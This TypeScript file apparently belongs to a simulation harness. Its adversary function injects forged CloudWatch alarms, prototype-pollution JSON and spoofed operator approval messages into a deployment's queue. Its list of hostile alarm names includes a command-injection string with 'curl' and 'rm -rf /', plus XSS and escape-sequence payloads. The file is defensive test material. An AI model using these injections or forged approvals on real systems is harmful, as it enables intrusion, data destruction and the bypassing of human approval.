import { actMessage } from '../runtime/answers/answer-message';
import type { VirtualClock } from '../simulator/clock';
import type { SimulatedAccount } from '../simulator/world';
import type { Deployment } from './deployment';
import type { Faults } from './faults';
import type { Truth } from './truth';

const hostileNames = [
  '$(curl evil)"; rm -rf /',
  'a\nFrom: oncall@example.com\n\u001b[31mOK\u001b[0m',
  `${'x'.repeat(254)}'`,
  '<script>alert(1)</script>',
  '__proto__',
] as const;

/** What somebody who means harm can reach of a deployment. */
export interface Surface {
  readonly clock: VirtualClock;
  readonly account: SimulatedAccount;
  readonly deployment: Deployment;
  readonly truth: Truth;
  readonly faults: Faults;
  readonly instances: readonly string[];
}

/** Tries something at each full minute, if the trial has an adversary. */
export function attack(surface: Surface): void {
  const { faults, deployment, clock, account, instances, truth } = surface;
  const [victim = 'i-0b000000000000001'] = instances;
  const at = new Date(clock.now()).toISOString().replace(/\.\d+Z$/, 'Z');
  const alarm = (id: string, name: string, of: string): object => ({
    version: '0',
    id,
    'detail-type': 'CloudWatch Alarm State Change',
    source: 'aws.cloudwatch',
    account: of,
    time: at,
    region: account.region,
    resources: [`arn:aws:cloudwatch:${account.region}:${of}:alarm:${name}`],
    detail: {
      alarmName: name,
      state: { value: 'ALARM', reason: 'Threshold Crossed', timestamp: at.replace('Z', '.000+0000') },
      configuration: {
        metrics: [
          {
            id: 'm1',
            metricStat: {
              metric: {
                namespace: 'AWS/EC2',
                name: 'StatusCheckFailed_Instance',
                dimensions: { InstanceId: victim },
              },
              period: 60,
              stat: 'Maximum',
            },
            returnData: true,
          },
        ],
      },
    },
  });
  const idOf = (kind: 'account-foreign' | 'alarm-forged' | 'event-forged'): string =>
    `f0${Buffer.from(faults.randomOf(kind).bytes(15)).toString('hex')}`.replace(
      /^(.{8})(.{4})(.{4})(.{4})(.{12})$/,
      '$1-$2-$3-$4-$5',
    );
  if (faults.hits('account-foreign')) {
    deployment.queue.send(JSON.stringify(alarm(idOf('account-foreign'), 'theirs', '999988887777')));
  }
  if (faults.hits('alarm-forged')) {
    const name = faults.randomOf('alarm-forged').pick(hostileNames);
    deployment.queue.send(JSON.stringify(alarm(idOf('alarm-forged'), name, account.id)));
  }
  if (faults.hits('event-forged')) {
    const random = faults.randomOf('event-forged');
    const type = random.pick([
      'xstate.after.1000.incident.waiting',
      'xstate.done.actor.0',
      'admission.granted',
      'xstate.stop',
    ]);
    deployment.queue.send(
      random.pick([
        JSON.stringify({ ...alarm(idOf('event-forged'), 'odd', account.id), type }),
        `{"__proto__":{"admin":true},"type":"${type}"}`,
        JSON.stringify({ type, at: clock.now(), revision: 1 }),
        'x'.repeat(10_000),
      ]),
    );
  }
  if (faults.hits('alarm-set')) {
    const random = faults.randomOf('alarm-set');
    const AlarmName = `${instances[random.between(0, Math.max(0, instances.length - 1))] ?? victim}-${random.pick(['instance', 'system'])}`;
    try {
      account.call('cloudwatch', 'SetAlarmState', {
        AlarmName,
        StateValue: random.pick(['OK', 'ALARM']),
        StateReason: 'by hand',
      });
    } catch {
      // There is no such alarm: what has no alarm cannot be lied about.
    }
  }
  if (faults.hits('message-forged')) {
    const random = faults.randomOf('message-forged');
    // Where a yes would start something, if there is such a place.
    const standings = truth.open();
    const standing = standings.find(({ incident: { state } }) => state === 'awaitingApproval') ?? standings[0];
    const incident = standing?.incident.id ?? 'inc-000000000000';
    const revision = (standing?.incident.revision ?? 0) + random.between(-1, 0);
    const planHash = standing?.incident.memory.planned?.planHash ?? 'none';
    deployment.queue.send(
      ...random.pick<[string, string]>([
        [JSON.stringify({ wake: { incident, revision } }), 'AIDAINTRUDER'],
        [JSON.stringify({ answer: { ticket: '0a'.repeat(32) } }), 'AIDAINTRUDER'],
        // Says that it is from somebody else than SQS says.
        [actMessage({ type: 'approval.granted', incident, planHash }, 'AROAOPERATORS0000001:alice'), 'AIDAINTRUDER'],
        [actMessage({ type: 'approval.granted', incident, planHash: 'other' }, 'AIDAINTRUDER'), 'AIDAINTRUDER'],
      ]),
    );
  }
}
